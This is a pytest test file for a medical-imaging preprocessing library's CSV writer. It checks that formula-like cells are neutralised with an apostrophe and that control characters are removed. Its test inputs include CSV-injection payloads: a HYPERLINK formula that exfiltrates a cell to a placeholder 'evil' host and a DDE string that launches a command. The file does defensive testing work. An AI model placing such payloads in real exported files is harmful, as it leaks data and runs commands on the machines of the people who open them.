"""CSV files: no cell is a formula, no control character comes through, and text comes back."""

import csv
import io
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hounsfield.preprocessing.files.csv_files import (
    cell_text,
    csv_row_writer,
    csv_text,
    read_csv,
    text_cell,
    write_csv,
)
from hounsfield.preprocessing.files.delimited import read_table

HOSTILE = st.text(
    st.sampled_from("=+-@'\";, \\x09b5c1u202e\t\r\n\x1b\x85\u2028\u202e\ufeff\udce9\uff1dA")
)
ANY_TEXT = st.text(st.characters(exclude_categories=())) | HOSTILE


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil/?"&A1,"x")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        " =1",
        "\t=1",
        "\r=1",
        "\x00=1",
        "\u200b=1",
        "\N{NO-BREAK SPACE}=1",
        "\N{FULLWIDTH EQUALS SIGN}1",
        "\tA",
        "-12.5+A1",
        "'=1",
    ],
)
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert text_cell(text).startswith("'")
    assert cell_text(text_cell(text)) == text


def test_what_follows_a_semicolon_is_defused_too():
    assert text_cell("a;=1") == "a;'=1"


@pytest.mark.parametrize(
    "text",
    [
        *("", "1.2.840.113619", "-12.5", "+3", "-1e-05", "-inf", "1;-2"),
        *("a-b", "'Tis", "O'Neil", "C:\\new", "\\xe9", "lung_upper, left", 'said "so"', "café"),
    ],
)
def test_harmless_text_and_numbers_stay_as_they_are(text):
    assert text_cell(text) == text


@given(ANY_TEXT)
def test_any_text_comes_back_from_its_cell(text):
    assert cell_text(text_cell(text)) == text
    assert cell_text(f" {text_cell(text)}  ") == text


@given(ANY_TEXT)
def test_no_cell_holds_a_control_character_or_begins_like_a_formula(text):
    cell = text_cell(text)
    assert not {unicodedata.category(c) for c in cell} & {"Cc", "Cs", "Zl", "Zp"}
    for part in cell.split(";"):
        assert part.lstrip()[:1] not in tuple("=+-@") or _is_number(part)


@given(st.lists(st.tuples(ANY_TEXT, st.floats(), st.integers()), max_size=5))
def test_a_table_has_one_line_for_each_row(rows):
    text = csv_text(("a", "b", "c"), rows)
    assert len(text.splitlines()) == len(rows) + 1


@given(rows=st.lists(st.tuples(ANY_TEXT, st.floats(allow_nan=False)), min_size=1, max_size=5))
def test_both_readers_give_back_what_was_written(tmp_path_factory, rows):
    path = tmp_path_factory.mktemp("table") / "table.csv"
    write_csv(path, rows, columns=("text", "number"))
    assert [(row["text"], float(row["number"])) for row in read_csv(path)] == rows
    table = read_table(path, {"text": (), "number": ()})
    assert list(table.columns["text"]) == [text for text, _ in rows]
    assert table.numbers("number").tolist() == [number for _, number in rows]


def test_numbers_are_written_as_the_csv_module_writes_them():
    row = (1, -2.5, 1e-7, None, True)
    ours, plain = io.StringIO(), io.StringIO()
    csv_row_writer(ours)(row)
    csv.writer(plain, lineterminator="\n").writerow(row)
    assert ours.getvalue() == plain.getvalue()


def _is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True
